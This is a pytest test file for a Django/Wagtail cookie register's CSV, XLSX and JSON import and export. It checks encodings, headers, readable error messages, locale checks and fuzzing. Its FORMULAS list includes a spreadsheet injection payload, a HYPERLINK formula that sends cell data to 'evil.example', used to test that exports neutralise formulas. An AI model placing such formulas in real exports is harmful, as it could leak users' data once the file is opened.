"""Files as people save them: CSV dialects and encodings, French headers, XLSX, formulas,
the file's locale, and malformed values that must end in a located error, never a traceback."""

import csv
import datetime
import io
import json
import random
import zipfile
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import transaction
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook
from wagtail.models import Locale

from wagtail_charte.models import Cookie
from wagtail_charte.models.domains import parse_domains
from wagtail_charte.models.lifetime import parse_lifetime, serialize_lifetime
from wagtail_charte.register.transfer.errors import TransferError
from wagtail_charte.register.transfer.export import EXPORTERS, export_csv, export_data, export_xlsx
from wagtail_charte.register.transfer.formats import read_document
from wagtail_charte.register.transfer.importer import ImportOptions, RegisterImport
from wagtail_charte.spreadsheet import neutralise, restore

from .helpers import register_state

pytestmark = pytest.mark.django_db
DATA = Path(__file__).parent.parent / "data"
HEADER = ["category", "provider", "service", "name", "purpose", "party", "lifetime", "locale"]


@pytest.fixture(autouse=True)
def english(demo):
    with translation.override("en"):
        yield


def fr():
    return Locale.objects.get(language_code="fr")


def run_import(tmp_path, content, *args, name="register.csv", locale="fr"):
    path = tmp_path / name
    path.write_bytes(content)
    out = io.StringIO()
    call_command("charte_import", str(path), "--locale", locale, *args, stdout=out, stderr=out)
    return out.getvalue()


def exported_rows(locale="fr"):
    return list(csv.reader(io.StringIO(export_csv(Locale.objects.get(language_code=locale)))))


def as_csv(rows, delimiter=",", bom=False, encoding="utf-8"):
    output = io.StringIO()
    csv.writer(output, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return (b"\xef\xbb\xbf" if bom else b"") + output.getvalue().encode(encoding)


def as_xlsx(rows, prepare=None):
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    if prepare:
        prepare(sheet)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def errors_of(content, name="register.csv"):
    with pytest.raises(TransferError) as caught:
        read_document(content, name)
    return str(caught.value)


# CSV as spreadsheets save it


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("bom", [False, True])
def test_csv_with_any_delimiter_and_with_or_without_bom_round_trips(tmp_path, delimiter, bom):
    before = register_state()
    output = run_import(tmp_path, as_csv(exported_rows(), delimiter, bom))
    assert "Cookies: 0 created, 0 updated, 7 unchanged, 0 deleted." in output
    assert register_state() == before


def test_french_headings_in_any_order_without_the_locale_column(tmp_path):
    rows = exported_rows()
    french = ["catégorie", "prestataire", "service", "nom", "finalité", "origine", "durée de vie"]
    order = [6, 3, 0, 1, 2, 4, 5]
    table = [[french[i].upper() if i == 3 else french[i] for i in order]]
    table += [[row[i] for i in order] for row in rows[1:]]
    table[1][order.index(4)] = "Une autre finalité."
    output = run_import(tmp_path, as_csv(table, ";"))
    assert "0 created, 1 updated, 6 unchanged" in output
    assert Cookie.objects.get(locale=fr(), name=rows[1][3]).purpose == "Une autre finalité."


def test_a_csv_in_another_encoding_is_refused_with_how_to_save_it_as_utf8(tmp_path):
    rows = exported_rows()
    content = as_csv(rows, ";", encoding="cp1252")
    before = register_state()
    with pytest.raises(CommandError, match=r"Line 3: the file is not valid UTF-8 text.*CSV UTF-8"):
        run_import(tmp_path, content)
    with pytest.raises(CommandError, match="UTF-16"):
        run_import(tmp_path, as_csv(rows, "\t").decode().encode("utf-16"))
    assert register_state() == before


@pytest.mark.parametrize(
    "header, message",
    [
        (["category", "provider", "name"], "Line 1: the column “service” is missing."),
        ([*HEADER, "colour"], "Line 1: unknown column “colour”"),
        ([*HEADER, "Nom"], "Line 1: the column “name” appears twice."),
    ],
)
def test_a_bad_header_is_named(header, message):
    assert message in errors_of(as_csv([header]))


def test_every_bad_row_is_reported_at_once():
    rows = exported_rows()
    rows[2][7] = "en"
    rows.append(["necessary", "Opendatasoft", "", "x", "y", "first", "session", "fr", "extra"])
    message = errors_of(as_csv(rows))
    assert "Line 3, field “locale”: “en”, where Line 2 says “fr”: a file holds one locale." in (
        message
    )
    assert "Line 9: expected 8 fields, found 9." in message


# Formulas


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2)',
    "+33 1 23 45 67 89",
    "-1",
    "@SUM(A1:A2)",
    "'quoted'",
    "''two quotes",
]


def test_neutralise_is_reversible_and_leaves_other_text_alone():
    for value in [*FORMULAS, "plain", "", "a=b", " =x"]:
        assert restore(neutralise(value)) == value
    assert neutralise(FORMULAS[0]).startswith("'=")
    assert neutralise("plain") == "plain" and neutralise(7) == 7


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formulas_are_neutralised_in_exports_and_round_trip(tmp_path, fmt):
    cookies = list(Cookie.objects.filter(locale=fr()).order_by("pk"))
    for cookie, value in zip(cookies, FORMULAS, strict=False):
        cookie.purpose = value
        cookie.service = value
        cookie.save_revision().publish()
    if fmt == "csv":
        exported = export_csv(fr())
        cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
        assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells
        content = exported.encode()
    else:
        content = export_xlsx(fr())
        sheet = load_workbook(io.BytesIO(content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert "'" + FORMULAS[0] in [cell.value for cell in cells]
        assert FORMULAS[0] not in [cell.value for cell in cells]
        assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula
    before = register_state()
    output = run_import(tmp_path, content, name=f"register.{fmt}")
    assert "0 updated, 7 unchanged" in output
    assert register_state() == before
    cookie = Cookie.objects.get(pk=cookies[0].pk)
    assert cookie.purpose == FORMULAS[0]


def test_an_export_resaved_in_the_other_format_by_a_spreadsheet_imports_back_unchanged(tmp_path):
    """As LibreOffice does: a CSV opened and saved as XLSX keeps each cell's text as it is,
    the `'` included; an XLSX saved as CSV writes each cell's text as it is."""
    cookies = list(Cookie.objects.filter(locale=fr()).order_by("pk"))
    for cookie, value in zip(cookies, FORMULAS, strict=False):
        cookie.purpose = value
        cookie.save_revision().publish()
    before = register_state()
    csv_saved_as_xlsx = as_xlsx(exported_rows())
    output = run_import(tmp_path, csv_saved_as_xlsx, name="register.xlsx")
    assert "0 updated, 7 unchanged" in output
    sheet = load_workbook(io.BytesIO(export_xlsx(fr()))).active
    xlsx_saved_as_csv = as_csv([[cell.value for cell in row] for row in sheet.iter_rows()], ";")
    output = run_import(tmp_path, xlsx_saved_as_csv)
    assert "0 updated, 7 unchanged" in output
    assert register_state() == before


def test_a_csv_export_that_libreoffice_saved_as_xlsx_reads_as_exported():
    """tests/data/libreoffice-saved-csv-export.xlsx: a CSV as `charte_export` writes it (French
    headings, FORMULAS as purposes), opened in LibreOffice Calc 7.4 and saved as .xlsx
    (`soffice --headless --infilter=CSV:44,34,76,1 --convert-to xlsx`)."""
    content = (DATA / "libreoffice-saved-csv-export.xlsx").read_bytes()
    document = read_document(content, "cookies.xlsx")
    assert document.locale == "fr"
    assert [entry.values["purpose"] for entry in document.cookies] == FORMULAS
    assert document.cookies[0].values["service"] == "Service é"


def test_listing_and_report_csv_exports_are_neutralised(admin_client):
    cookie = Cookie.objects.filter(locale=fr()).first()
    Cookie.objects.filter(pk=cookie.pk).update(purpose=FORMULAS[0])
    en = Locale.objects.get(language_code="en")
    Cookie.objects.filter(locale=en, translation_key=cookie.translation_key).delete()
    Cookie.objects.filter(pk=cookie.pk).update(name="@evil")
    listing_url = reverse(Cookie.snippet_viewset.get_url_name("list"))
    listing = admin_client.get(listing_url, {"export": "csv", "locale": "fr"})
    body = b"".join(listing.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells
    report = admin_client.get(reverse("wagtail_charte_translation_status:index"), {"export": "csv"})
    body = b"".join(report.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'@evil" in cells and "@evil" not in cells


# XLSX


def test_xlsx_export_imports_back_and_reads_numbers_as_text(tmp_path):
    before = register_state()
    run_import(tmp_path, export_xlsx(fr()), name="register.xlsx")
    assert register_state() == before
    rows = exported_rows()
    rows[1][6] = "6 months"
    content = as_xlsx(rows, lambda sheet: sheet.cell(2, 4, 12345))  # a number for a name
    output = run_import(tmp_path, content, name="register.xlsx")
    assert "1 created" in output
    assert Cookie.objects.filter(locale=fr(), name="12345").exists()


def xlsx_with(value, **cell):
    def prepare(sheet):
        target = sheet.cell(3, 7, value)
        for key, attribute in cell.items():
            setattr(target, key, attribute)

    return as_xlsx(exported_rows(), prepare)


@pytest.mark.parametrize(
    "number, read_as",
    [
        ("9007199254740992", "9007199254740992"),
        ("-9007199254740992", "-9007199254740992"),
        ("9007199254740993", None),
        ("1.152921504606847e+18", None),
        ("-1.5E+300", None),
        ("123456789012345678901234567890", None),
    ],
)
def test_xlsx_numbers_a_spreadsheet_cannot_hold_exactly_are_refused(number, read_as):
    """Beyond 2**53 a spreadsheet's number is rounded (Excel keeps 15 digits): the register
    would hold a name the editor never typed."""
    content = with_sheet_xml(
        as_xlsx(exported_rows(), lambda sheet: sheet.cell(3, 4, 4242)),
        lambda xml: xml.replace(b"<v>4242</v>", f"<v>{number}</v>".encode()),
    )
    if read_as:
        assert read_document(content, "register.xlsx").cookies[1].values["name"] == read_as
    else:
        assert errors_of(content, "register.xlsx") == (
            "Row 3, field “name”: the cell holds a number too large for a spreadsheet to keep "
            "exactly: format the column as text, then type the value."
        )


def huge_integer_workbook():
    return with_sheet_xml(
        xlsx_with(1), lambda xml: xml.replace(b"<v>1</v>", b"<v>" + b"9" * 5001 + b"</v>")
    )


def with_sheet_xml(content, change):
    """The workbook `content` with its first sheet's XML changed."""
    source = zipfile.ZipFile(io.BytesIO(content))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = change(data)
            target.writestr(info, data)
    return output.getvalue()


CELL = "Row 3, field “lifetime”"


@pytest.mark.parametrize(
    "content, message",
    [
        (lambda: xlsx_with("=1+1"), "Row 3, field “lifetime”: the cell holds a formula"),
        (
            lambda: xlsx_with(datetime.date(2024, 1, 2)),
            "Row 3, field “lifetime”: the cell holds a date",
        ),
        (lambda: xlsx_with(True), "Row 3, field “lifetime”: the cell holds TRUE or FALSE"),
        (
            lambda: xlsx_with("#N/A", data_type="e"),
            "Row 3, field “lifetime”: the cell holds the error",
        ),
        (huge_integer_workbook, "Row 3: a cell cannot be read: it holds a number of too many"),
        (lambda: as_xlsx([]), "The file is empty"),
        (lambda: b"PK\x03\x04 not really a zip", "cannot be read as an Excel workbook"),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "old Excel file (.xls)"),
    ],
)
def test_bad_xlsx_cells_and_files_are_located_errors(content, message):
    assert message in errors_of(content(), "register.xlsx")


def test_merged_cells_are_read_as_the_first_cell_and_empty_ones(tmp_path):
    content = as_xlsx(exported_rows(), lambda sheet: sheet.merge_cells("D3:E3"))
    before = register_state()
    with pytest.raises(CommandError, match="Row 3, field “purpose”: This field cannot be blank"):
        run_import(tmp_path, content, name="register.xlsx")
    assert register_state() == before


def test_control_characters_in_a_csv_cell_are_located_errors():
    rows = exported_rows()
    rows[2][4] = "a\x0bb"
    assert "Line 3, field “purpose”: contains an invalid character (U+000B)" in errors_of(
        as_csv(rows)
    )


# Every broken file is told in a sentence for an editor, never in the reader's own words


def csv_with_line(line):
    first = "statistics,Matomo,Matomo,_pk_id,Compte les visites.,first,13 months,fr"
    return "\r\n".join([",".join(HEADER), first, line]).encode()


@pytest.mark.parametrize(
    "content, name, sentence, raw",
    [
        (
            csv_with_line('statistics,"Matomo"x,a,b,c,first,session'),
            "register.csv",
            'Line 3: malformed CSV: a value in double quotes (") is followed by other characters '
            "before the next “,”: put the whole value in double quotes, and double each double "
            "quote inside it.",
            "expected after",
        ),
        (
            csv_with_line('statistics,Matomo,"a,b,c,first,session'),
            "register.csv",
            'Line 3: malformed CSV: a value opens a double quote (") that is never closed.',
            "unexpected end of data",
        ),
        (
            csv_with_line("statistics,Matomo,a,b," + "x" * 200_000 + ",first,session"),
            "register.csv",
            "Line 3: malformed CSV: a value is longer than 131072 characters.",
            "field larger than field limit",
        ),
        (
            b'{"cookies": [}',
            "register.json",
            "Line 1, column 14: malformed JSON: a value is expected here: text in double "
            "quotes, a number, a list or an object.",
            "Expecting value",
        ),
        (
            b'{"cookies": []\n "categories": []}',
            "register.json",
            "Line 2, column 2: malformed JSON: a comma (,) is expected here, between two items.",
            "delimiter",
        ),
        (
            b'{"cookies" []}',
            "register.json",
            "Line 1, column 12: malformed JSON: a colon (:) is expected here, after the key.",
            "delimiter",
        ),
        (
            b"{cookies: []}",
            "register.json",
            "Line 1, column 2: malformed JSON: a key in double quotes is expected here.",
            "enclosed in double quotes",
        ),
        (
            b'{"cookies": [], "locale": "fr',
            "register.json",
            'Line 1, column 27: malformed JSON: a text starts here but its double quote (") '
            "is never closed.",
            "Unterminated",
        ),
        (
            b'{"cookies": [], "locale": "f\tr"}',
            "register.json",
            "Line 1, column 29: malformed JSON: a text holds a line break or a tab: write it "
            "as \\n or \\t.",
            "control character",
        ),
        (
            b'{"cookies": [], "locale": "\\qfr"}',
            "register.json",
            "Line 1, column 28: malformed JSON: a backslash (\\) starts an unknown escape: "
            "write a backslash as \\\\.",
            "Invalid \\escape",
        ),
        (
            b'{"cookies": [], "locale": "\\u12"}',
            "register.json",
            "Line 1, column 29: malformed JSON: “\\u” must be followed by four hexadecimal digits.",
            "XXXX",
        ),
        (
            b'{"cookies": []} []',
            "register.json",
            "Line 1, column 17: malformed JSON: the file goes on after its end: remove what "
            "follows.",
            "Extra data",
        ),
        (
            lambda: huge_integer_workbook(),
            "register.xlsx",
            "Row 3: a cell cannot be read: it holds a number of too many digits, or it is "
            "damaged. Type the value as text, or save the workbook again.",
            "Exceeds the limit",
        ),
        (
            b"PK\x03\x04 not really a zip",
            "register.xlsx",
            "The file cannot be read as an Excel workbook: it is damaged, or it is not one. "
            "Save it again as .xlsx, or as CSV UTF-8.",
            "BadZipFile",
        ),
    ],
)
def test_broken_files_are_told_in_sentences_not_in_the_readers_words(content, name, sentence, raw):
    message = errors_of(content() if callable(content) else content, name)
    assert message == sentence
    assert raw not in message


# JSON


def test_a_json_number_of_5001_digits_is_a_located_error(tmp_path):
    data = json.loads(call_export_json())
    text = json.dumps(data).replace('"order": 10', '"order": ' + "9" * 5001, 1)
    with pytest.raises(CommandError, match="Category 1, field “order”: this number has too many"):
        run_import(tmp_path, text.encode(), name="register.json")
    text = json.dumps(data).replace('"name": "sessionid"', '"name": ' + "9" * 5001, 1)
    with pytest.raises(CommandError, match="field “name”: this number has too many digits"):
        run_import(tmp_path, text.encode(), name="register.json")


def test_json_text_with_nul_or_a_lone_surrogate_is_refused(tmp_path):
    data = json.loads(call_export_json())
    data["cookies"][0]["purpose"] = "a\u0000b"
    data["cookies"][1]["service"] = "\ud800"
    before = register_state()
    with pytest.raises(CommandError) as caught:
        run_import(tmp_path, json.dumps(data).encode(), name="register.json")
    assert "Cookie 1, field “purpose”: contains an invalid character (U+0000)" in str(caught.value)
    assert "Cookie 2, field “service”: contains an invalid character (U+D800)" in str(caught.value)
    assert register_state() == before


def call_export_json(locale="fr"):
    out = io.StringIO()
    call_command("charte_export", "--locale", locale, "--format", "json", stdout=out)
    return out.getvalue()


# The file's locale


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_file_exported_from_another_locale_is_refused_unless_allowed(tmp_path, fmt):
    out = io.StringIO()
    call_command("charte_export", "--locale", "en", "--format", fmt, stdout=out)
    before = register_state()
    with pytest.raises(CommandError, match="This file comes from the “en” register, not “fr”"):
        run_import(tmp_path, out.getvalue().encode(), name=f"en.{fmt}")
    assert register_state() == before
    output = run_import(
        tmp_path, out.getvalue().encode(), "--allow-locale-mismatch", "--dry-run", name=f"en.{fmt}"
    )
    assert "updated" in output and "Dry run: nothing was written." in output
    assert register_state() == before


def test_export_writes_xlsx_to_a_file_only(tmp_path):
    path = tmp_path / "cookies.xlsx"
    call_command("charte_export", "--locale", "fr", "--format", "xlsx", "--output", str(path))
    assert load_workbook(path).active.cell(1, 8).value == "locale"
    with pytest.raises(CommandError, match="give a file with --output"):
        call_command("charte_export", "--locale", "fr", "--format", "xlsx")


# Fuzz: whatever the bytes, a TransferError or a document, never anything else


def mutations(content, seed):
    chance = random.Random(seed)
    data = bytearray(content)
    for _ in range(chance.randint(1, 8)):
        position = chance.randrange(len(data))
        action = chance.choice(["flip", "cut", "insert", "truncate"])
        if action == "flip":
            data[position] = chance.randrange(256)
        elif action == "cut":
            del data[position : position + chance.randint(1, 20)]
        elif action == "insert":
            data[position:position] = chance.choice(
                [b'"', b";", b"\n", b"\x00", b"{", b"]", b"9" * 5001, b"\xff", b"=1+1", b"\r"]
            )
        else:
            del data[position:]
        if not data:
            break
    return bytes(data)


def as_stored(values, keys=None):
    """An entry's values (those of `keys`, else all) as the register stores them: a lifetime
    in its one spelling, a provider's domains as their list."""
    values = {key: values[key] for key in keys or values}
    if "lifetime" in values:
        values = {**values, "lifetime": serialize_lifetime(*parse_lifetime(values["lifetime"]))}
    if "domains" in values:
        domains = values["domains"]
        text = "\n".join(domains) if isinstance(domains, list) else domains
        values = {**values, "domains": tuple(parse_domains(text))}
    return tuple(sorted(values.items()))


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_malformed_files_are_refused_or_import_as_they_read(fmt):
    content = EXPORTERS[fmt](fr())
    content = content.encode() if isinstance(content, str) else content
    options = ImportOptions(delete_missing=True, allow_locale_mismatch=True)
    refused = imported = 0
    # Most mutations break a file: past 60 files, more are tried until one still imports.
    for seed in range(600):
        if seed >= 60 and refused and imported:
            break
        if fmt == "xlsx":  # a changed byte of the archive fails its checksum: change the XML
            mutated = with_sheet_xml(content, lambda xml, seed=seed: mutations(xml, seed))
        else:
            mutated = mutations(content, seed)
        before = register_state()
        with transaction.atomic():
            try:
                document = read_document(mutated, f"register.{fmt}")
                RegisterImport(document, fr(), options=options).apply()
            except TransferError:
                refused += 1
                assert register_state() == before
            else:
                imported += 1
                # The register now says what the file says: its cookies, no other, and
                # the categories and providers it lists.
                register = export_data(fr())
                kinds = ("categories", "providers", "cookies")
                stored = {kind: {as_stored(e) for e in register[kind]} for kind in kinds}
                assert stored["cookies"] == {as_stored(e.values) for e in document.cookies}
                for kind in ("categories", "providers"):
                    # A provider that leaves its domains out keeps its own.
                    for entry in getattr(document, kind):
                        kept = {as_stored(e, entry.values) for e in register[kind]}
                        assert as_stored(entry.values) in kept
            transaction.set_rollback(True)
    assert refused and imported


# The admin's cap


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reading_stops_at_the_first_entry_past_the_cap(fmt):
    """What lies beyond (here a row that cannot be read) is never parsed: a file at the 5 MB
    limit costs no more to refuse than one just past the cap."""
    rows = [*exported_rows()[:3], ["a", "b", "c", "d", "e", "f", "g", "h", "i", "j"]]
    content = as_csv(rows) if fmt == "csv" else as_xlsx(rows)
    name = f"register.{fmt}"
    where = {"csv": "Line 4", "xlsx": "Row 4"}[fmt]
    assert f"{where}: expected 8 fields" in errors_of(content, name)
    with pytest.raises(TransferError, match="This file holds more than 2 entries"):
        read_document(content, name, max_entries=2)
    assert len(read_document(as_csv(rows[:3]), "register.csv", max_entries=2).cookies) == 2
